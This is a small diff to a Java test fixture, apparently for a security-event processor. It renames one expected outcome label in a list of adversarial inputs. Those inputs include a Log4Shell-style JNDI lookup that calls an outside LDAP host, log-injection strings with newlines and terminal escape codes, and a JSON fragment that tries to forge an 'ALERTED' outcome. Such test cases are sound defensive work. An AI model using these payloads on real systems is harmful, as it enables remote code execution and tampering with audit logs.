@@ -118,9 +118,9 @@ final class Texts {
                 version("\"\u0001\"", "FAILED"),
                 version("\"a\nb\"", "FAILED"),
                 text("detail.userIdentity.arn", "\\udc00\\ud800", "RECORDED"),
-                text("detail.eventName", "\\ud800", "IGNORED NO_RULE_JUDGES_IT"),
+                text("detail.eventName", "\\ud800", "IGNORED NO_RULE_APPLIES"),
                 text("detail.eventID", "a\\nERROR\\r\\u2028\\u001b[2J\\u202e\\u007f", "RECORDED"),
-                text("detail.eventName", "\\r\\n{\\\"outcome\\\":\\\"ALERTED\\\"}", "IGNORED NO_RULE_JUDGES_IT"),
+                text("detail.eventName", "\\r\\n{\\\"outcome\\\":\\\"ALERTED\\\"}", "IGNORED NO_RULE_APPLIES"),
                 text("detail.userAgent", "${jndi:ldap://198.51.100.7/x}", "RECORDED"),
                 text("account", "111122223333\\n", "FAILED"));
     }
